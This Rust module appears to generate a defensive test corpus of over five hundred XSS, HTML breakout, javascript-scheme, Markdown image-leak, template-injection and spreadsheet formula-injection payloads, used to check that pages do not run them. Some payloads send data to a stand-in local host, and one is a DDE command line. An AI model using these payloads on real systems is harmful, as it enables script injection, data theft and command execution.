//! Hostile texts: what would run in a page, load something from elsewhere, or become a formula, if it were shown as it
//! is. Put together from the vectors that are commonly published (script and event handlers, breaking out of attributes
//! and elements, schemes, encodings, Markdown that makes a reader's browser tell on them, templates, spreadsheets).

/// What a payload runs: pages under test look whether it is there.
pub const MARK: &str = "beseda_was_here";

const TAGS: [&str; 20] = [
    "img src=x",
    "image src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
    "embed src=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a href=x",
    "math",
    "form",
    "video><source",
    "x tabindex=1 contenteditable",
];

const EVENTS: [&str; 18] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onbegin",
    "onmouseover",
    "onpointerenter",
    "onclick",
    "onanimationstart",
    "ontransitionend",
    "onscroll",
    "onwheel",
    "onblur",
    "oninput",
    "onpaste",
    "onbeforetoggle",
    "onpageshow",
];

const BREAKS: [&str; 16] = [
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "--></",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</select>",
    "</template>",
    "\\\"",
    "\u{2028}",
];

/// At least five hundred of them. `elsewhere` is the address of a server that nothing may ask: `http://127.0.0.1:PORT`.
pub fn payloads(elsewhere: &str) -> Vec<String> {
    let run = format!("window.{MARK}=1");
    let mut all = scripts(&run, elsewhere);
    for tag in TAGS {
        all.extend(EVENTS.map(|event| format!("<{tag} {event}={run}>")));
    }
    for out in BREAKS {
        all.push(format!("{out}<script>{run}</script>"));
        all.push(format!("{out}<img src=x onerror={run}>"));
        all.push(format!("{out} onmouseover={run} x={out}"));
        all.push(format!("{out} autofocus onfocus={run} x={out}"));
        all.push(format!("{out};{run}//"));
    }
    all.extend(schemes(&run));
    all.extend(markdown(&run, elsewhere));
    all.extend(templates());
    all.extend(formulas(elsewhere));
    all
}

fn scripts(run: &str, elsewhere: &str) -> Vec<String> {
    [
        "<script>{run}</script>",
        "<SCRIPT>{run}</SCRIPT>",
        "<script >{run}</script >",
        "<script\n>{run}</script\n>",
        "<script/x>{run}</script>",
        "<scr<script>ipt>{run}</scr</script>ipt>",
        "<script src={elsewhere}/x.js></script>",
        "<script src=//127.0.0.1/x.js></script>",
        "<script type=module>{run}</script>",
        "<svg><script>{run}</script></svg>",
        "<svg><script href={elsewhere}/x.js /></svg>",
        "<math><mtext></p><script>{run}</script></math>",
        "<noscript><p title=\"</noscript><script>{run}</script>\">",
        "<style>@import '{elsewhere}/x.css';</style>",
        "<style>*{background:url({elsewhere}/x)}</style>",
        "<link rel=stylesheet href={elsewhere}/x.css>",
        "<link rel=prefetch href={elsewhere}/x>",
        "<base href={elsewhere}/>",
        "<meta http-equiv=refresh content=\"0;url={elsewhere}/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
        "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
        "<iframe src={elsewhere}/></iframe>",
        "<object data={elsewhere}/></object>",
        "<img src={elsewhere}/pixel.png>",
        "<img srcset={elsewhere}/pixel.png>",
        "<picture><source srcset={elsewhere}/pixel.png><img></picture>",
        "<video poster={elsewhere}/pixel.png>",
        "<input type=image src={elsewhere}/pixel.png>",
        "<form action={elsewhere}/><button>ok</button></form>",
        "<button formaction={elsewhere}/ form=x>ok</button>",
        "<a ping={elsewhere}/ href=#>ok</a>",
        "<portal src={elsewhere}/>",
        "<div style=background:url({elsewhere}/x)>",
        "<div style=\"width:expression({run})\">",
        "<svg><use href=\"{elsewhere}/x.svg#x\"></svg>",
        "<svg><animate attributeName=href values=javascript:{run} /><a id=x><text y=9>x</text></a></svg>",
        "<template><script>{run}</script></template>",
        "<plaintext>",
        "<!--<img src=\"--><img src=x onerror={run}//\">",
        "<![CDATA[<script>{run}</script>]]>",
        "<?xml version=\"1.0\"?><script>{run}</script>",
        "+ADw-script+AD4-{run}+ADw-/script+AD4-",
        "&lt;script&gt;{run}&lt;/script&gt;",
        "&#60;script&#62;{run}&#60;/script&#62;",
        "%3Cscript%3E{run}%3C/script%3E",
        "%253Cscript%253E{run}%253C/script%253E",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
        "＜script＞{run}＜/script＞",
        "\u{202e}<script>{run}</script>",
        "\u{feff}<script>{run}</script>",
    ]
    .map(|text| text.replace("{run}", run).replace("{elsewhere}", elsewhere))
    .into()
}

fn schemes(run: &str) -> Vec<String> {
    let urls = [
        format!("javascript:{run}"),
        format!("JaVaScRiPt:{run}"),
        format!("java\tscript:{run}"),
        format!("java\nscript:{run}"),
        format!(" javascript:{run}"),
        format!("\u{1}javascript:{run}"),
        format!("&#106;avascript:{run}"),
        format!("javascript&colon;{run}"),
        format!("javascript://%0a{run}"),
        format!("vbscript:{run}"),
        format!("data:text/html,<script>{run}</script>"),
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+".to_owned(),
        "blob:x".to_owned(),
        "file:///etc/passwd".to_owned(),
        "tg://resolve?domain=x".to_owned(),
    ];
    let shapes: [fn(&str) -> String; 4] = [
        |url| format!("[ok]({url})"),
        |url| format!("<a href=\"{url}\">ok</a>"),
        |url| format!("<{url}>"),
        |url| format!("<iframe src='{url}'></iframe>"),
    ];
    urls.iter().flat_map(|url| shapes.map(|shape| shape(url))).collect()
}

fn markdown(run: &str, elsewhere: &str) -> Vec<String> {
    [
        "![x]({elsewhere}/?q=secret)",
        "![x](<{elsewhere}/?q=secret>)",
        "![x][1]\n\n[1]: {elsewhere}/?q=secret",
        "![1]\n\n[1]: {elsewhere}/?q=secret",
        "[![x]({elsewhere}/a.png)]({elsewhere}/b)",
        "[ok]({elsewhere}/?q=secret \"title\")",
        "[ok][1]\n\n[1]: {elsewhere}/?q=secret",
        "<{elsewhere}/?q=secret>",
        "{elsewhere}/?q=secret",
        "# ![x]({elsewhere}/?q=secret)",
        "| ![x]({elsewhere}/a) |\n|---|\n| ![x]({elsewhere}/b) |",
        "- [ ] ![x]({elsewhere}/?q=secret)",
        "> <img src={elsewhere}/pixel.png>",
        "```html\n<script>{run}</script>\n```",
        "`<script>{run}</script>`",
        "```\"><script>{run}</script>\nx\n```",
        "$$\\href{javascript:{run}}{x}$$",
        "[x](javascript:{run} \"a\")",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](x \"onerror={run}\")",
        "![\"onerror=\"{run}](x)",
        "[a\"onmouseover=\"{run}](http://x)",
        "<details open ontoggle={run}><summary>x</summary></details>",
        "[^1]\n\n[^1]: ![x]({elsewhere}/?q=secret)",
        "<!-- --><script>{run}</script>",
        "**<script>{run}</script>**",
    ]
    .map(|text| text.replace("{run}", run).replace("{elsewhere}", elsewhere))
    .into()
}

fn templates() -> Vec<String> {
    [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% include 'x' %}",
        "{{constructor.constructor('alert(1)')()}}",
        "*{7*7}",
        "@(7*7)",
        "[[7*7]]",
        "{# x #}",
    ]
    .map(String::from)
    .into()
}

fn formulas(elsewhere: &str) -> Vec<String> {
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"{elsewhere}/\"&A1,\"ok\")",
        "=IMPORTXML(\"{elsewhere}/\",\"//a\")",
        "=WEBSERVICE(\"{elsewhere}/\")",
        "=cmd|' /C calc'!A0",
        "\"=1+1\"",
        "x\",=1+1,\"",
        "x\n=1+1",
        "＝1+1",
    ]
    .map(|text| text.replace("{elsewhere}", elsewhere))
    .into()
}

#[cfg(test)]
mod tests {
    #[test]
    fn there_are_more_than_five_hundred_and_no_two_alike() {
        let mut all = super::payloads("http://127.0.0.1:9");
        let count = all.len();
        all.sort_unstable();
        all.dedup();
        assert!(count == all.len() && count >= 500, "{count}, {} different", all.len());
    }
}
